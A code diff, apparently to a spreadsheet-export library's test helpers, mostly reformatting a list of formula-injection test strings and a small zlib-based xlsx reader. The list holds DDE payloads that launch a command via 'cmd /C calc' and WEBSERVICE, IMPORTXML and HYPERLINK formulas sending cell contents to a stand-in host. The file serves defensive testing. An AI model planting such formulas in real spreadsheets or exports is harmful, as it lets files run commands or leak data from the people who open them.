@@ -2,11 +2,15 @@ import { crc32, inflateRawSync } from "node:zlib";
 
 /** Texts that spreadsheets have run, or mangled, when they opened a file with them. For the tests of every export. */
 export const PAYLOADS: readonly string[] = [
-  ...["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"].flatMap((first) => [`${first}1+1`, `${first}cmd|' /C calc'!A0`, ` ${first}SUM(A1)`]),
+  ...["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"].flatMap((first) => [
+    `${first}1+1`,
+    `${first}cmd|' /C calc'!A0`,
+    ` ${first}SUM(A1)`,
+  ]),
   '=HYPERLINK("http://example.test?x="&A1,"点我")',
   '=WEBSERVICE("http://example.test/"&A1)',
   '=IMPORTXML("http://example.test","//a")',
-  "=DDE(\"cmd\",\"/C calc\",\"!A0\")",
+  '=DDE("cmd","/C calc","!A0")',
   "@SUM(1+1)*cmd|' /C calc'!A0",
   "\u0000=1+1",
   "\u0001=1+1",
@@ -46,7 +50,12 @@ export interface ReadSheet {
 /** Opens a workbook of ours with nothing but zlib; checks the zip's own sums on the way. */
 export function readXlsx(file: Buffer): ReadSheet[] {
   const parts = unzip(file);
-  const formats = [...parts.get("xl/styles.xml")!.match(/<cellXfs.*<\/cellXfs>/)![0].matchAll(/<xf numFmtId="(\d+)"/g)].map((match) => match[1]!);
+  const formats = [
+    ...parts
+      .get("xl/styles.xml")!
+      .match(/<cellXfs.*<\/cellXfs>/)![0]
+      .matchAll(/<xf numFmtId="(\d+)"/g),
+  ].map((match) => match[1]!);
   const names = [...parts.get("xl/workbook.xml")!.matchAll(/<sheet name="([^"]*)"/g)].map((match) => match[1]!);
   return names.map((name, at) => readSheet(name, parts.get(`xl/worksheets/sheet${at + 1}.xml`)!, formats));
 }
@@ -57,8 +66,11 @@ function readSheet(name: string, xml: string, formats: readonly string[]): ReadS
     const row: (ReadCell | undefined)[] = [];
     for (const [, letters, style, body] of inside!.matchAll(/<c r="([A-Z]+)\d+" s="(\d+)"(?: t="inlineStr")?>(.*?)<\/c>/gs)) {
       const number = /^<v>(.*)<\/v>$/.exec(body!)?.[1];
-      const column = [...letters!].reduce((sum, letter) => sum * 26 + letter.charCodeAt(0) - 64, 0) - 1;
-      row[column] = number === undefined ? { text: unescape(/^<is><t xml:space="preserve">(.*)<\/t><\/is>$/s.exec(body!)![1]!) } : { number, format: formats[Number(style)]! };
+      const column = letters!.split("").reduce((sum, letter) => sum * 26 + letter.charCodeAt(0) - 64, 0) - 1;
+      row[column] =
+        number === undefined
+          ? { text: unescape(/^<is><t xml:space="preserve">(.*)<\/t><\/is>$/s.exec(body!)![1]!) }
+          : { number, format: formats[Number(style)]! };
     }
     rows.push(row);
   }
@@ -73,7 +85,12 @@ function unzip(file: Buffer): Map<string, string> {
   const end = file.lastIndexOf(Buffer.from([0x50, 0x4b, 5, 6]));
   const parts = new Map<string, string>();
   for (let at = file.readUInt32LE(end + 16), left = file.readUInt16LE(end + 10); left > 0; left--) {
-    const [packed, plain, nameLength, offset] = [file.readUInt32LE(at + 20), file.readUInt32LE(at + 24), file.readUInt16LE(at + 28), file.readUInt32LE(at + 42)];
+    const [packed, plain, nameLength, offset] = [
+      file.readUInt32LE(at + 20),
+      file.readUInt32LE(at + 24),
+      file.readUInt16LE(at + 28),
+      file.readUInt32LE(at + 42),
+    ];
     const start = offset + 30 + file.readUInt16LE(offset + 26) + file.readUInt16LE(offset + 28);
     const text = inflateRawSync(file.subarray(start, start + packed));
     if (text.length !== plain || crc32(text) !== file.readUInt32LE(at + 16)) throw new Error("a wrong sum in the zip");
